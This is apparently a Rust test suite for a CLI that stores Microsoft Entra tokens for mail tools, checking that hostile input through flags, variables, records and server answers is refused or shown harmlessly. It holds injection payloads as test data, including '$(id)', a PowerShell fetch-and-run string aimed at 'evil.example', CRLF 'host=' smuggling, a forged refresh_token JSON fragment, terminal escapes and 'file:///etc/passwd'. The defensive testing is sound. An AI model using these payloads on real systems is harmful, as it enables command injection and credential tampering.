//! What somebody else may choose, at every door: flags, variables, records, a store's program, the
//! authority. Each gets the same texts; none of them ever comes out as more than a word in a line.

use std::fs;

use serde_json::{Value, json};

use crate::credential::ask;
use crate::support::fake_entra::{
    Audience, Behaviour, NATIVE_CLIENT_ID, Registration, Settings, Times, User,
};
use crate::support::{Computer, Outcome, TARO, fed, finish};

/// Texts that mean more than they say to a shell, a terminal, a file of lines, or an eye.
fn hostile() -> Vec<String> {
    let texts = [
        "'",
        "\"",
        "`id`",
        "$(id)",
        "${HOME}",
        ";id;",
        "&id&",
        "|id",
        "{a,b}",
        "!!",
        "%PATH%",
        "\u{2018}",
        "\u{2019}",
        "\u{201a}",
        "\u{201b}",
        "\u{201c}",
        "\u{ff07}",
        "x';iex(irm('evil.example'));'.y",
        "\r",
        "\n",
        "\r\nhost=evil.example\r\n",
        "\0",
        "\u{1b}[2J",
        "\u{1b}]0;title\u{7}",
        "\u{8}\u{8}",
        "\u{7f}",
        "\u{9b}2J",
        "\u{85}",
        "\u{202e}",
        "\u{2066}",
        "\u{200b}",
        "\u{200f}",
        "\u{feff}",
        "\u{ad}",
        "\u{3164}",
        "\u{2028}",
        "\u{2029}",
        "\u{e0041}\u{e0042}",
        "\u{fe0f}",
        "\u{e0100}",
        "\u{fff0}",
        "\u{2800}",
        "\\",
        "\",\"refresh_token\":\"evil\",\"x\":\"",
    ];
    let texts = texts.into_iter().map(|text| format!("a{text}b.example"));
    texts
        .chain(["x".repeat(130_000), "x ".repeat(65_000)])
        .collect()
}

/// Whatever moves a cursor, begins a line, or is not seen.
fn is_harmful(character: char) -> bool {
    character != '\n'
        && (character.is_control()
            || matches!(character, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
                | '\u{fff0}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}'))
}

/// What a token may be made of: visible ASCII without what a string of JSON ends or escapes with.
fn has_letters_of_tokens(text: &str) -> bool {
    text.bytes()
        .all(|byte| byte.is_ascii_graphic() && !b"\"\\".contains(&byte))
}

/// What a call printed is what our own program would print: its labels, its lines, and no flood.
#[track_caller]
fn assert_harmless(outcome: &Outcome, case: &str) {
    for printed in [&outcome.stdout, &outcome.stderr] {
        let harmful = printed.chars().find(|character| is_harmful(*character));
        assert_eq!(harmful, None, "{case}: {printed:?}");
        assert!(printed.len() < 30_000, "{case}: {} bytes", printed.len());
        assert!(
            !printed.lines().any(|line| line.starts_with("host=")),
            "{case}: {printed:?}"
        );
    }
    if outcome.status != 0 && outcome.stderr.starts_with("error: ") {
        let is_ours = |line: &str| {
            let labels = ["error: ", "hint: ", "("];
            labels.iter().any(|label| line.starts_with(label))
        };
        assert!(outcome.stderr.lines().all(is_ours), "{case}: {outcome:?}");
        assert!(outcome.stderr.lines().count() <= 3, "{case}: {outcome:?}");
    }
}

/// The calls that show or hand out what is stored.
const CALLS: [&[&str]; 11] = [
    &["show", "--no-refresh"],
    &["show", "--refresh-token"],
    &["show", "--claims"],
    &["show", "--format", "header"],
    &["status"],
    &["status", "--json"],
    &["--lang", "ja", "status"],
    &["status", "--check"],
    &["status", "--check", "--format", "prometheus"],
    &["exec", "--", "/usr/bin/env"],
    &["setup", "msmtp"],
];

/// Every call, each with what it may print at most.
fn assert_nothing_comes_out(computer: &Computer, case: &str) {
    for args in CALLS {
        let outcome = computer.run(args);
        let case = format!("{case}, {args:?}");
        assert_harmless(&outcome, &case);
        if args[0] == "show" && args[1] != "--claims" {
            assert!(outcome.stdout.lines().count() <= 1, "{case}: {outcome:?}");
        }
    }
    let git = ask(
        computer,
        &[],
        "get",
        "protocol=smtp\nhost=smtp.office365.com\n",
    );
    assert_harmless(&git, case);
    let keys: Vec<_> = git
        .stdout
        .lines()
        .filter_map(|line| line.split('=').next())
        .collect();
    let expected = ["username", "password", "password_expiry_utc", "ephemeral"];
    assert!(keys.is_empty() || keys == expected, "{case}: {git:?}");
}

/// Some at once: each mostly waits for processes.
fn at_once<T: Send>(all: impl IntoIterator<Item = T>, test: impl Fn(T) + Sync) {
    let all: Vec<T> = all.into_iter().collect();
    let size = all.len().div_ceil(4).max(1);
    let mut all = all.into_iter();
    std::thread::scope(|scope| {
        loop {
            let part: Vec<T> = all.by_ref().take(size).collect();
            if part.is_empty() {
                return;
            }
            let test = &test;
            scope.spawn(move || part.into_iter().for_each(test));
        }
    });
}

/// Those that can be an argument or a variable, which end at a NUL.
fn without_nul() -> impl Iterator<Item = String> {
    hostile().into_iter().filter(|text| !text.contains('\0'))
}

#[test]
fn no_flag_lets_hostile_text_in() {
    let computer = Computer::signed_in();
    let login = [
        "login",
        "--client-id",
        NATIVE_CLIENT_ID,
        "--no-browser",
        "--timeout",
        "1ms",
    ];
    let flags: [(&[&str], &str, bool); 20] = [
        (&login, "--tenant", true),
        (&login, "--authority-host", true),
        (&login, "--redirect-uri", true),
        (&login, "--scope", false),
        (&login, "--login-hint", false),
        (&login, "--prompt", true),
        (&["login"], "--client-id", true),
        (&["status"], "--account", false),
        (&["status"], "--lang", true),
        (&["logout", "-a", TARO], "--store", true),
        (&["store", "move"], "--to", true),
        (&["doctor"], "--smtp", true),
        (&["doctor"], "--from", true),
        (&["setup", "mbsync"], "--imap", true),
        (&["setup", "msmtp"], "--smtp", true),
        (&["setup", "msmtp"], "--from", true),
        (&["register"], "--graph-host", true),
        (&["register"], "--also-redirect", true),
        (&["register"], "--tenant", true),
        (&["show"], "--min-ttl", true),
    ];
    at_once(flags, |(args, flag, is_refused)| {
        for text in without_nul() {
            let value = format!("{flag}={text}");
            let outcome = computer.run(&[args, &[value.as_str()]].concat());
            let case = format!("{flag} {:?}", text.get(..40).unwrap_or(&text));
            assert_harmless(&outcome, &case);
            // These make another host, in ASCII from there on.
            let is_idna =
                text.contains(['\u{2018}', '\u{2019}', '\u{201a}', '\u{201b}', '\u{201c}']);
            if is_refused && !is_idna {
                assert_eq!(outcome.status, 2, "{case}: {outcome:?}");
            }
        }
    });
    computer.run(&["show", "--no-refresh"]).exits(0);
}

#[test]
fn no_host_is_more_than_a_host() {
    let computer = Computer::new();
    for host in [
        "x';iex(irm('evil.example'));'.y",
        "$(id).example",
        "a&b.example",
        "a;b.example",
        "a!b.example",
        "{a}.example",
        "%27.example",
        "a_b.example",
        "-a.example",
        "a\u{ff07}b.example",
    ] {
        for flags in [
            &["--tenant", host][..],
            &["--authority-host", host],
            &["--authority-host", &format!("https://{host}/")],
            &["--redirect-uri", &format!("https://{host}/callback")],
        ] {
            let login = [
                "login",
                "--client-id",
                NATIVE_CLIENT_ID,
                "--no-browser",
                "--timeout=1s",
            ];
            let outcome = computer.run(&[&login, flags].concat());
            assert_eq!(outcome.status, 2, "{flags:?}: {outcome:?}");
        }
        for args in [
            &["register", "--graph-host", host][..],
            &["doctor", "--smtp", host],
            &["setup", "mbsync", "--imap", host],
            &["credential", "--host", host, "get"],
        ] {
            let outcome = computer.run(args);
            assert_eq!(outcome.status, 2, "{args:?}: {outcome:?}");
        }
    }
}

#[test]
fn no_variable_lets_hostile_text_in() {
    let computer = Computer::signed_in();
    let login = ["login", "--client-id", NATIVE_CLIENT_ID, "--timeout", "1ms"];
    let variables: [(&str, &[&str]); 16] = [
        ("AZURE_CLIENT_ID", &["login", "--timeout", "1ms"]),
        ("AZURE_TENANT_ID", &login),
        ("AZURE_AUTHORITY_HOST", &login),
        ("AZURE_CLIENT_SECRET", &login),
        ("AZURE_CLIENT_CERTIFICATE_PATH", &login),
        ("AZURE_FEDERATED_TOKEN_FILE", &login),
        ("BROWSER", &login),
        ("USER", &login),
        ("SSH_CONNECTION", &login),
        ("ENTRA_TOKEN_ACCOUNT", &["status"]),
        ("ENTRA_TOKEN_STORE", &login),
        ("ENTRA_TOKEN_STATE_DIR", &["status"]),
        ("XDG_CONFIG_HOME", &["setup", "msmtp"]),
        ("HOME", &["setup", "msmtp"]),
        ("SSL_CERT_FILE", &["refresh"]),
        ("LANG", &["status"]),
    ];
    at_once(variables, |(name, args)| {
        for text in without_nul() {
            let mut command = computer.command(args);
            if ["USER", "SSH_CONNECTION"].contains(&name) {
                let connection = format!(
                    "192.0.2.1 1 {} 2",
                    if name == "USER" { "192.0.2.2" } else { &text }
                );
                command.env("SSH_CONNECTION", connection);
            }
            if name != "SSH_CONNECTION" {
                command.env(name, &text);
            }
            let outcome = finish(command.spawn().expect("started"));
            assert_harmless(
                &outcome,
                &format!("{name} {:?}", text.get(..40).unwrap_or(&text)),
            );
        }
    });
}

/// Where hostile text is put in a record, and whether it is refused there whatever it is.
const FIELDS: [(&str, bool); 17] = [
    ("/access_token", true),
    ("/refresh_token", true),
    ("/spare_refresh_token", true),
    ("/scopes/0", false),
    ("/account/tenant", false),
    ("/account/authority_host", false),
    ("/account/client_id", true),
    ("/account/cloud", true),
    ("/account/username", true),
    ("/account/login_hint", false),
    ("/account/scopes/0", false),
    ("/account/redirect", true),
    ("/account/ca_file", false),
    ("/account/claims", true),
    ("/account/authentication/file", false),
    ("/dead/error", false),
    ("/dead/at", true),
];

/// A record in which every field is there.
fn whole(record: &mut Value) {
    record["spare_refresh_token"] = record["refresh_token"].clone();
    record["account"]["login_hint"] = TARO.into();
    record["account"]["claims"] = "{}".into();
    record["account"]["ca_file"] = "/nowhere/ca.pem".into();
    record["account"]["authentication"] = json!({"by": "federated_token", "file": "/nowhere"});
    record["dead"] = json!({
        "error": "invalid_grant", "suberror": "bad_token", "aadsts": 50173,
        "correlation_id": "c", "timestamp": "t", "at": "2026-01-01T00:00:00Z",
    });
}

/// A record with a text in a field; that of a refusal has it in all of them.
fn with(record: &Value, field: &str, text: &str) -> Value {
    let mut record = record.clone();
    *record.pointer_mut(field).expect("a field") = text.into();
    if field == "/dead/error" {
        for field in ["suberror", "correlation_id", "timestamp"] {
            record["dead"][field] = text.into();
        }
    }
    record
}

#[test]
fn no_record_lets_hostile_text_out() {
    at_once(FIELDS, |(field, is_refused)| {
        let computer = Computer::signed_in();
        computer.edit_record(whole);
        let record = computer.record();
        for text in hostile() {
            let spoilt = with(&record, field, &text).to_string();
            fs::write(computer.record_path(), &spoilt).expect("written");
            let case = format!("{field} {:?}", text.get(..40).unwrap_or(&text));
            let status = computer.run(&["status"]);
            assert_harmless(&status, &case);
            let can_be_token =
                field.contains("token") && has_letters_of_tokens(&text) && text.len() < 60_000;
            if is_refused && !can_be_token {
                assert_eq!(status.status, 7, "{case}: {status:?}");
                assert!(
                    status.stdout.contains("it was left unchanged"),
                    "{case}: {status:?}"
                );
            }
            if status.status == 7 {
                let git = ask(
                    &computer,
                    &[],
                    "get",
                    "protocol=smtp\nhost=smtp.office365.com\n",
                );
                assert_eq!((git.status, git.stdout.as_str()), (7, ""), "{case}");
            } else {
                assert_nothing_comes_out(&computer, &case);
            }
            let left = fs::read_to_string(computer.record_path()).expect("still there");
            assert!(left == spoilt, "{case}: the record was changed");
        }
    });
}

#[cfg(unix)]
#[test]
fn no_imported_record_lets_hostile_text_in() {
    let laptop = Computer::signed_in();
    laptop.edit_record(whole);
    let record = laptop.record();
    let import = |computer: &Computer, record: &Value| {
        let mut command = computer.command(&["import", "--allow-external"]);
        fed(&mut command, record.to_string())
    };
    at_once(
        FIELDS.into_iter().chain([("/account/name", false)]),
        |(field, is_refused)| {
            let server = Computer::new();
            for text in hostile() {
                let outcome = import(&server, &with(&record, field, &text));
                let case = format!("{field} {:?}", text.get(..40).unwrap_or(&text));
                assert_harmless(&outcome, &case);
                let can_be_token =
                    field.contains("token") && has_letters_of_tokens(&text) && text.len() < 60_000;
                if is_refused && !can_be_token {
                    assert_eq!(outcome.status, 2, "{case}: {outcome:?}");
                    assert!(outcome.stderr.contains("hint: "), "{case}: {outcome:?}");
                }
                if outcome.status == 0 {
                    assert_harmless(&server.run(&["status"]), &case);
                }
            }
        },
    );
}

#[test]
fn no_file_of_the_state_directory_lets_hostile_text_out() {
    let computer = Computer::signed_in();
    computer.entra.refuse_once(53_003, "access_denied");
    computer.run(&["refresh"]).exits(5);
    let (list, note) = (
        computer.path("home/state/accounts.json"),
        computer.path(&format!("home/state/attempts/{TARO}.json")),
    );
    let read =
        |path| -> Value { serde_json::from_slice(&fs::read(path).expect("a file")).expect("JSON") };
    let (accounts, attempt) = (read(&list), read(&note));
    for text in hostile() {
        let case = format!("{:?}", text.get(..40).unwrap_or(&text));
        let mut spoilt = attempt.clone();
        let error = &mut spoilt["error"];
        error["fact"] = json!({"english": text, "japanese": text});
        error["hint"] = error["fact"].clone();
        for field in ["error", "suberror", "correlation_id", "timestamp"] {
            error["refusal"][field] = text.clone().into();
        }
        fs::write(&note, spoilt.to_string()).expect("written");
        assert_nothing_comes_out(&computer, &case);
        assert_harmless(&computer.run(&["refresh"]), &case);
        for (field, value) in [
            ("/default", text.clone()),
            ("/accounts/0/name", text.clone()),
            ("/accounts/0/store", format!("command=/nowhere/{text}")),
            ("/pending/0/id", text.clone()),
        ] {
            let mut spoilt = accounts.clone();
            spoilt["pending"] =
                json!([{"id": "x", "store": "file", "expires_at": "2100-01-01T00:00:00Z"}]);
            *spoilt.pointer_mut(field).expect("a field") = value.into();
            fs::write(&list, spoilt.to_string()).expect("written");
            for args in [&["status"][..], &["status", "--json"], &["show"]] {
                assert_harmless(&computer.run(args), &format!("{field} {case}"));
            }
        }
        fs::write(&list, accounts.to_string()).expect("written");
    }
}

#[test]
fn no_claim_of_a_token_lets_hostile_text_out() {
    use base64::prelude::{BASE64_URL_SAFE_NO_PAD, Engine as _};
    let computer = Computer::signed_in();
    for text in hostile().into_iter().filter(|text| text.len() < 20_000) {
        let claims = json!({
            "aud": text, "scp": text, "roles": [text, text], "tid": text, "upn": text, "iss": text,
            "appidacr": text, "exp": text, text.clone(): text,
        });
        let token = format!(
            "e30.{}.e30",
            BASE64_URL_SAFE_NO_PAD.encode(claims.to_string())
        );
        computer.edit_record(|record| record["access_token"] = token.into());
        assert_nothing_comes_out(&computer, &format!("{text:?}"));
    }
}

#[test]
fn the_claims_that_were_asked_for_are_shown_whole() {
    use base64::prelude::{BASE64_URL_SAFE_NO_PAD, Engine as _};
    let computer = Computer::signed_in();
    let issuer = "https://login.microsoftonline.com/55555555-eeee-4eee-8eee-555555555555/v2.0";
    let claims = json!({"iss": issuer, "upn": TARO}).to_string();
    let token = format!("e30.{}.e30", BASE64_URL_SAFE_NO_PAD.encode(claims));
    computer.edit_record(|record| record["access_token"] = token.into());
    let claims = computer.run(&["show", "--claims"]).exits(0);
    assert!(claims.stdout.contains(issuer), "{claims:?}");
}

/// An account name and a path that are longer than a word may be which is taken for a secret.
#[cfg(unix)]
#[test]
fn what_is_to_be_used_again_is_shown_whole() {
    let computer = Computer::new();
    let name = format!("{}@example.com", "x".repeat(100));
    computer.login(&["-a", &name]).0.exits(0);
    computer
        .entra
        .configure(|settings| settings.user.upn = "someone@example.com");
    computer.edit_record_of(&name, |record| {
        record["dead"] = json!({"error": "invalid_grant", "at": "2026-01-01T00:00:00Z"});
    });
    let command = format!("`entra-token login -a {name}`");
    for args in [&["status"][..], &["status", "--check"]] {
        let outcome = computer.run(args);
        assert!(outcome.stdout.contains(&name), "{outcome:?}");
    }
    computer.run(&["refresh"]).exits(4).says(&command);
    let git = ask(
        &computer,
        &[],
        "get",
        &format!("protocol=smtp\nhost=smtp.office365.com\nusername=y{name}\n"),
    );
    git.exits(4)
        .says(&format!("`entra-token login -a y{name} --client-id ID`"));
    let program = format!("/nowhere/{}", "y".repeat(90));
    computer
        .run(&["exec", "-a", "nobody", "--", &program])
        .exits(4);
    computer.edit_record_of(&name, |record| record["dead"] = Value::Null);
    computer
        .run(&["exec", "--", &program])
        .exits(127)
        .says(&program);
}

#[cfg(unix)]
#[test]
fn no_store_lets_hostile_text_out() {
    let computer = Computer::signed_in();
    let record = computer.record();
    let script = computer.private_file("store", "#!/bin/sh\ncat >/dev/null\ncat \"$(dirname \"$0\")/answer\"\ncat \"$(dirname \"$0\")/complaint\" >&2\n[ ! -s \"$(dirname \"$0\")/complaint\" ]\n");
    let listed = computer.path("home/state/accounts.json");
    let mut list: Value =
        serde_json::from_slice(&fs::read(&listed).expect("a list")).expect("JSON");
    list["accounts"][0]["store"] = format!("command=/bin/sh {}", script.display()).into();
    fs::write(&listed, list.to_string()).expect("written");
    for text in hostile() {
        let case = format!("{:?}", text.get(..40).unwrap_or(&text));
        for answer in [
            json!({"secret": with(&record, "/refresh_token", &text).to_string()}).to_string(),
            json!({"secret": record.to_string(), "etag": text}).to_string(),
            json!({"secret": text}).to_string(),
            text.clone(),
        ] {
            computer.private_file("answer", &answer);
            computer.private_file("complaint", "");
            assert_harmless(&computer.run(&["status"]), &case);
            assert_harmless(&computer.run(&["show", "--refresh-token"]), &case);
        }
        computer.private_file("complaint", &text);
        assert_harmless(&computer.run(&["show"]), &case);
    }
}

#[test]
fn no_answer_of_the_authority_puts_hostile_text_in_the_place_of_a_token() {
    let fields = ["access_token", "refresh_token", "id_token", "token_type"];
    at_once(fields, |field| {
        let computer = Computer::signed_in();
        let record = fs::read(computer.record_path()).expect("a record");
        let texts = hostile()
            .into_iter()
            .chain(["1.Atok\nhost=evil.example".to_owned()]);
        for text in texts.filter(|text| {
            !has_letters_of_tokens(text) || text.len() > 60_000 || field == "token_type"
        }) {
            let case = format!("{field} {:?}", text.get(..40).unwrap_or(&text));
            computer
                .entra
                .set(Behaviour::Field(field, text.into()), Times::Always);
            let outcome = computer.run(&["refresh"]);
            assert_harmless(&outcome, &case);
            assert_eq!(outcome.status, 3, "{case}: {outcome:?}");
            assert!(
                outcome.stderr.contains(&format!("`{field}`")),
                "{case}: {outcome:?}"
            );
            computer.entra.heal();
            let left = fs::read(computer.record_path()).expect("a record");
            assert!(left == record, "{case}: the record was changed");
        }
        fs::remove_dir_all(computer.path("home/state/attempts")).expect("noted");
        computer.run(&["refresh"]).exits(0);
        assert_nothing_comes_out(&computer, field);
    });
}

#[test]
fn no_refusal_or_scope_of_the_authority_brings_lines_escapes_or_floods() {
    let computer = Computer::signed_in();
    for text in hostile() {
        let case = format!("{:?}", text.get(..40).unwrap_or(&text));
        computer.edit_record(|record| record["dead"] = Value::Null);
        let body = json!({
            "error": text, "suberror": "bad_token", "error_description": text,
            "correlation_id": text, "timestamp": text, "error_codes": [50_173],
        });
        computer
            .entra
            .set(Behaviour::Json(400, body), Times::Always);
        assert_harmless(&computer.run(&["refresh"]), &case);
        for args in [
            &["status"][..],
            &["status", "--json"],
            &["status", "--check"],
        ] {
            assert_harmless(&computer.run(args), &case);
        }
        computer.entra.heal();
        let _ = fs::remove_dir_all(computer.path("home/state/attempts"));
    }
    computer.edit_record(|record| record["dead"] = Value::Null);
    let scope = "https://outlook.office.com/SMTP.Send";
    for flood in [
        format!("{scope} {}", "x".repeat(200_000)),
        format!("{scope} {}", "https://outlook.office.com/x ".repeat(7000)),
        format!("{scope} a\u{1b}[2J b\u{202e}c d\"e"),
    ] {
        computer
            .entra
            .set(Behaviour::Field("scope", flood.into()), Times::Always);
        computer.run(&["refresh"]).exits(0);
        for args in [&["status"][..], &["status", "--json"]] {
            let outcome = computer.run(args).exits(0);
            assert_harmless(&outcome, "scopes");
            assert!(outcome.stdout.contains(scope), "{outcome:?}");
        }
        computer.entra.heal();
    }
}

fn with_device_answer(field: &'static str, value: &str) -> Computer {
    let computer = Computer::new();
    computer.entra.register(Registration {
        public_flows: true,
        ..Registration::native(NATIVE_CLIENT_ID, Audience::AnyOrgAndPersonal)
    });
    let set = |settings: &mut Settings| settings.device_fields = vec![(field, value.into())];
    computer.entra.configure(set);
    computer
}

fn sign_in_by_code(computer: &Computer) -> Outcome {
    computer.run(&[
        "login",
        "--client-id",
        NATIVE_CLIENT_ID,
        "--device-code",
        "--timeout",
        "9s",
    ])
}

#[test]
fn a_page_and_a_code_are_shown_whole() {
    let tenant = "55555555-eeee-4eee-8eee-555555555555";
    for (field, value) in [
        (
            "verification_uri",
            format!("https://login.example.com/{tenant}/oauth2/v2.0/devicecode"),
        ),
        (
            "verification_uri",
            format!("https://login.example.com/{}", "x".repeat(900)),
        ),
        (
            "verification_uri",
            "http://localhost:8080/device".to_owned(),
        ),
        ("user_code", "ABCD-EFGH-".repeat(6)),
    ] {
        let computer = with_device_answer(field, &value);
        sign_in_by_code(&computer)
            .exits(0)
            .says(&format!("\n  {value}\n"));
    }
}

#[test]
fn a_page_or_a_code_that_cannot_be_shown_whole_is_refused_with_the_reason() {
    let pages = hostile()
        .into_iter()
        .map(|text| format!("https://login.example.com/{text}"));
    let pages = pages.filter(|page| {
        page.contains(|c: char| !c.is_ascii_graphic() || "\"`{|".contains(c)) || page.len() > 2048
    });
    let others = [
        "http://login.example.com/device",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "https://user@login.example.com/",
        "https://x';id;'.example/",
        "nonsense",
    ];
    let pages = pages
        .chain(others.map(str::to_owned))
        .map(|page| ("verification_uri", page));
    let is_code = |text: &String| !has_letters_of_tokens(text) || text.len() > 64;
    let codes = hostile().into_iter().filter(is_code).chain([String::new()]);
    let codes = codes.flat_map(|code| [("user_code", code.clone()), ("device_code", code)]);
    let codes = codes.filter(|(field, code)| *field == "user_code" || !has_letters_of_tokens(code));
    at_once(pages.chain(codes), |(field, value)| {
        let computer = with_device_answer(field, &value);
        let outcome = sign_in_by_code(&computer);
        let case = format!("{field} {:?}", value.get(..60).unwrap_or(&value));
        assert_harmless(&outcome, &case);
        assert_eq!(outcome.status, 3, "{case}: {outcome:?}");
        assert!(outcome.stderr.starts_with("error: "), "{case}: {outcome:?}");
        assert_eq!(computer.entra.token_requests().len(), 0, "{case}");
    });
}

#[test]
fn no_answer_to_a_sign_in_brings_hostile_text() {
    let computer = Computer::new();
    let start = computer
        .run(&["login", "--client-id", NATIVE_CLIENT_ID, "--start"])
        .exits(0);
    let url = start.json()["url"].as_str().expect("a URL").to_owned();
    let url = url::Url::parse(&url).expect("a URL");
    let state = url
        .query_pairs()
        .find(|(name, _)| name == "state")
        .expect("there")
        .1
        .into_owned();
    for text in hostile() {
        for (name, value) in [("code", text.as_str()), ("error", &text), ("state", &text)] {
            let mut query = url::form_urlencoded::Serializer::new(String::new());
            query
                .append_pair(name, value)
                .append_pair("error_description", &text);
            if name != "state" {
                query.append_pair("state", &state);
            }
            let address = format!("http://localhost/?{}", query.finish());
            let address = if address.len() > 120_000 {
                &address[..120_000]
            } else {
                &address
            };
            let is_code = name == "code" && has_letters_of_tokens(&text);
            if is_code {
                continue;
            }
            let outcome = computer.run(&["login", "--finish", address]);
            let case = format!("{name} {:?}", text.get(..40).unwrap_or(&text));
            assert_harmless(&outcome, &case);
            assert_ne!(outcome.status, 0, "{case}");
        }
    }
    assert_eq!(computer.entra.token_requests().len(), 0);
}

fn guest(upn: &'static str) -> User {
    User {
        name: "A Guest",
        upn,
        object_id: "66666666-0003-4fff-8fff-666666666666",
    }
}

#[test]
fn a_name_may_have_marks_on_its_letters_and_characters_of_a_chosen_form() {
    let computer = Computer::new();
    for user in [
        "か\u{3099}く@example.jp",
        "jose\u{301}@example.com",
        "น้ำ@example.com",
        "हिन्दी@example.com",
    ] {
        computer
            .entra
            .configure(|settings| settings.user = guest(user));
        let (login, _) = computer.login(&["--login-hint", user]);
        login.exits(0).says(&format!("signed in as {user}"));
        let lines = computer.run(&["setup", "msmtp", "--from", user]).exits(0);
        assert!(lines.stdout.contains(user), "{lines:?}");
        computer.run(&["show", "-a", user]).exits(0);
    }
    for user in [
        "\u{301}x@example.com",
        "taro\u{fe0f}@example.com",
        "taro\u{200d}@example.com",
        "t-\u{301}@example.com",
    ] {
        let hint = [
            "login",
            "--client-id",
            NATIVE_CLIENT_ID,
            "--login-hint",
            user,
        ];
        computer.run(&hint).exits(2);
        computer.run(&["setup", "msmtp", "--from", user]).exits(2);
    }
    let computer = Computer::signed_in();
    computer.edit_record(|record| {
        record["account"]["ca_file"] = "/nowhere/葛\u{e0100}城.pem".into();
    });
    let status = computer.run(&["status"]);
    assert!(status.stdout.contains("葛\u{e0100}城.pem"), "{status:?}");
}

#[test]
fn each_guest_of_a_tenant_has_an_account_of_their_own() {
    let computer = Computer::new();
    let guests = [
        (
            "jane_gmail.example#EXT#@contoso.onmicrosoft.com",
            "jane_gmail.example#EXT#@contoso.onmicrosoft.com",
        ),
        (
            "joe_gmail.example#EXT#@contoso.onmicrosoft.com",
            "joe_gmail.example#EXT#@contoso.onmicrosoft.com",
        ),
        (
            "user#ext#@contoso.onmicrosoft.com",
            "user#ext#@contoso.onmicrosoft.com",
        ),
        (
            "o'brien_mail.example#EXT#@contoso.onmicrosoft.com",
            "o'brien_mail.example#EXT#@contoso.onmicrosoft.com",
        ),
        ("a.b#1@contoso.com", "a.b#1@contoso.com"),
        ("live.com#jiro@example.com", "jiro@example.com"),
    ];
    for (upn, username) in guests {
        computer
            .entra
            .configure(|settings| settings.user = guest(upn));
        computer.login(&[]).0.exits(0).says(username);
    }
    let status = computer.run(&["status", "--json"]).exits(0).json();
    let accounts = status["accounts"].as_array().expect("a list");
    let users: Vec<_> = accounts
        .iter()
        .map(|account| account["user"].as_str())
        .collect();
    assert_eq!(users, guests.map(|(_, username)| Some(username)));
    let names: Vec<_> = accounts
        .iter()
        .map(|account| account["account"].as_str())
        .collect();
    assert_eq!(
        names,
        guests
            .map(|(_, username)| username.to_lowercase())
            .iter()
            .map(|it| Some(it.as_str()))
            .collect::<Vec<_>>()
    );
    for (_, username) in guests {
        computer.run(&["refresh", "-a", username]).exits(0);
    }
}

#[test]
fn records_of_earlier_versions_are_still_read() {
    let computer = Computer::signed_in();
    for (field, value, shown) in [
        ("/account/tenant", "例え.jp", "xn--r8jz45g.jp"),
        (
            "/account/tenant",
            "Contoso.OnMicrosoft.com",
            "contoso.onmicrosoft.com",
        ),
        (
            "/account/username",
            "@contoso.onmicrosoft.com",
            "@contoso.onmicrosoft.com",
        ),
        (
            "/account/username",
            "r&d+mail@example.com",
            "r&d+mail@example.com",
        ),
        (
            "/account/redirect",
            "https://app.square.hulft.com/connections/oauth2/callback",
            "ok",
        ),
        (
            "/account/redirect",
            "msal11111111-aaaa-4aaa-8aaa-111111111111://auth",
            "ok",
        ),
        ("/refresh_token", "M.C509_BAY.0.U.-Cl*!$", "ok"),
    ] {
        let record = computer.record();
        fs::write(
            computer.record_path(),
            with(&record, field, value).to_string(),
        )
        .expect("written");
        let status = computer.run(&["status"]).exits(0);
        assert!(shown == "ok" || status.stdout.contains(shown), "{status:?}");
        computer.run(&["show", "--no-refresh"]).exits(0);
        fs::write(computer.record_path(), record.to_string()).expect("written");
    }
}
